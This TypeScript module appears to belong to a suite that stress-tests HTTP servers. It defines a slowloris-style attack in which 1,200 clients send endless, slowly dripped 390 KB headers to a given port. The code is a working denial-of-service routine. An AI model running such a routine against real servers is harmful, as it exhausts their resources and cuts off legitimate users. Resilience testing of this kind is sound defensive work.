import { readOn, writeAll } from "../sockets.ts";
import type { HttpAttack } from "./attack.ts";
import { crowd } from "./crowd.ts";

const CLIENTS = 1_200;
const HEAD_BYTES = 390_000;
/** What a client sends at a time, with a pause after it. */
const PART_BYTES = 30_000;
const PAUSE_MILLISECONDS = 500;
const AGAIN_MILLISECONDS = 5_000;

/** Twelve hundred heads of 390 KB that never end, and come bit by bit. */
export const slowHeads: HttpAttack = {
  target: "http",
  name: "slow-heads",
  run: (port) =>
    crowd(port, CLIENTS, async (connection) => {
      await writeAll(connection, new TextEncoder().encode("GET /livez HTTP/1.1\r\nHost: x\r\n"));
      const line = `${"h".repeat(20)}: ${"a".repeat(976)}\r\n`;
      const part = new TextEncoder().encode(line.repeat(PART_BYTES / 1_000));
      for (let sent = 0; sent < HEAD_BYTES; sent += PART_BYTES) {
        await writeAll(connection, part);
        await new Promise((resolve) => setTimeout(resolve, PAUSE_MILLISECONDS));
      }
      await readOn(connection);
    }, AGAIN_MILLISECONDS),
};
